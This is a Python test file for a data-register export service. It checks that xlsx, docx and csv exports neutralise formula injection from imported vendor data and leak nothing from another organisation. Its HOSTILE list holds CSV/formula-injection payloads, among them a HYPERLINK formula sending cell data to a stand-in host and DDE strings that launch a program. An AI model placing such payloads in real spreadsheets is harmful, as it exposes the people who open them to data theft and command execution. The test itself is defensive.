"""Cross-checks on every export: no formula from imported text, no other organisation's data.

Files are read back at the byte level (every member of the xlsx/docx archive, the CSV text), so
nothing hidden (a shared string, document properties, a second sheet) can carry either.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from importers import RecordKind, propose_mapping, read_records, read_tables
from workbench.domain import Organisation, OrganisationKind, Subprocessor, Treatment
from workbench.services import Register
from workbench.services.export_service import ExportService
from workbench.services.import_service import ImportService

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MARKER = "Zorglub"  # only in the other organisation's records


def _texts(path: Path) -> str:
    """Everything the file holds, as text: each archive member, or the file itself."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())
    return path.read_bytes().decode("utf-8-sig", "replace")


def _exports(register: Register, folder: Path, organisation: str | None = None) -> list[Path]:
    service = ExportService(register)
    made = []
    for fmt in ("xlsx", "docx"):
        path = folder / f"register.{fmt}"
        service.export_register(path, fmt, organisation=organisation)
        made.append(path)
    for fmt in ("xlsx", "docx", "csv"):
        path = folder / f"subprocessors.{fmt}"
        service.export_subprocessors(path, fmt, organisation=organisation)
        made.append(path)
    return made


def _imported_hostile_register(register: Register, tmp_path: Path) -> None:
    """Hostile text arrives the way it would: through an import of a vendor's CSV."""
    source = tmp_path / "vendors.csv"
    lines = ["Subcontractor name;Description;Server location"]
    lines += [
        f'"Vendor {n}";"{v.replace(chr(34), chr(34) * 2)}";"France"' for n, v in enumerate(HOSTILE)
    ]
    source.write_text("\r\n".join(lines), encoding="utf-8")
    register.organisations.create(Organisation(name="Podalire", kind=OrganisationKind.OWN))
    table = read_tables(source)[0]
    ImportService(register).apply(read_records(table, propose_mapping(table, RecordKind.AUTO)))
    descriptions = {s.service_description for s in register.subprocessors.list()}
    assert set(HOSTILE) & descriptions, "the import kept the hostile text (as it should)"


def test_no_export_carries_a_formula_from_imported_text(register: Register, tmp_path: Path) -> None:
    _imported_hostile_register(register, tmp_path)
    org = register.organisations.list()[0]
    assert org.id is not None
    register.treatments.create(Treatment(organisation_id=org.id, name=HOSTILE[0]))
    for path in _exports(register, tmp_path):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    xml = archive.read(name).decode("utf-8", "replace")
                    assert not re.search(r"<(\w+:)?f[ >]", xml), f"formula in {path.name}:{name}"
        if path.suffix == ".csv":
            content = path.read_text(encoding="utf-8-sig")
            dialect = csv.Sniffer().sniff(content.splitlines()[0], delimiters=";,\t")
            rows = list(csv.reader(io.StringIO(content), dialect))
            cells = [c for row in rows for c in row]
            bad = [c for c in cells if c.startswith(TRIGGERS)]
            assert bad == [], f"{path.name}: cells a spreadsheet would run: {bad}"
            assert any(c.lstrip("'") in HOSTILE for c in cells)  # kept, made inert


def test_exporting_one_organisation_leaks_nothing_of_another(
    register: Register, tmp_path: Path
) -> None:
    ours = register.organisations.create(
        Organisation(name="Podalire", kind=OrganisationKind.OWN)
    ).ids[0]
    theirs = register.organisations.create(
        Organisation(name=f"Clinique {MARKER}", kind=OrganisationKind.OWN)
    ).ids[0]
    register.treatments.create(Treatment(organisation_id=ours, name="Gestion de compte"))
    register.treatments.create(
        Treatment(organisation_id=theirs, name=f"Dossier {MARKER}", purpose=f"Soins {MARKER}")
    )
    register.subprocessors.create(Subprocessor(organisation_id=ours, name="Mailjet"))
    register.subprocessors.create(
        Subprocessor(organisation_id=theirs, name=f"Hébergeur {MARKER}", notes=MARKER)
    )
    folder = tmp_path / "ours"
    folder.mkdir()
    for path in _exports(register, folder, organisation="Podalire"):
        text = _texts(path)
        assert MARKER not in text, f"{path.name} leaks the other organisation's data"
        assert "Podalire" in text or "Mailjet" in text or "Gestion de compte" in text
    # And the whole-register export does contain it: the check above can see a leak.
    everything = tmp_path / "all"
    everything.mkdir()
    assert any(MARKER in _texts(p) for p in _exports(register, everything))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_trigger_is_covered(hostile: str) -> None:
    assert hostile.startswith(TRIGGERS)
